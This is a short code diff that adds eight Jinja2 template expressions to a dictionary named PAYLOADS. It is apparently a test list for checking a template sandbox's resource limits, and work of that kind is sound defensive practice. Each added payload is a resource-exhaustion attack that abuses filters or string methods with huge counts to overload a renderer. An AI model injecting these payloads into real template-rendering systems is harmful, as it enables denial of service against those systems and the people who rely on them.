@@ -53,6 +53,14 @@ PAYLOADS = {
     "format-shared-list": '{% set a = ["x" * 1000000] * 1000 %}{{ "{}".format(a) }}',
     "tilde-shared-list": '{% set a = ["x" * 1000000] * 1000 %}{{ "" ~ a }}',
     "lipsum": "{{ lipsum(100000, max=100000) }}",
+    "tojson-indent": '{{ [[1, 2]] * 1000 | tojson(indent=999999999) }}',
+    "wordwrap-wrapstring": '{{ ("a " * 500000) | wordwrap(2, wrapstring="y" * 1000) }}',
+    "slice-count": '{{ [1] | slice(999999999) | list | length }}',
+    "batch-fill": '{{ [1] | batch(999999999, 0) | list | length }}',
+    "str-translate": '{{ ("a" * 1000000).translate({97: "b" * 1000}) }}',
+    "int-to-bytes": "{{ (1).to_bytes(999999999, 'big') | length }}",
+    "map-center": '{{ ["x"] | map("center", 999999999) | list }}',
+    "attr-center": '{{ ("x" | attr("center"))(999999999) }}',
 }
 
 
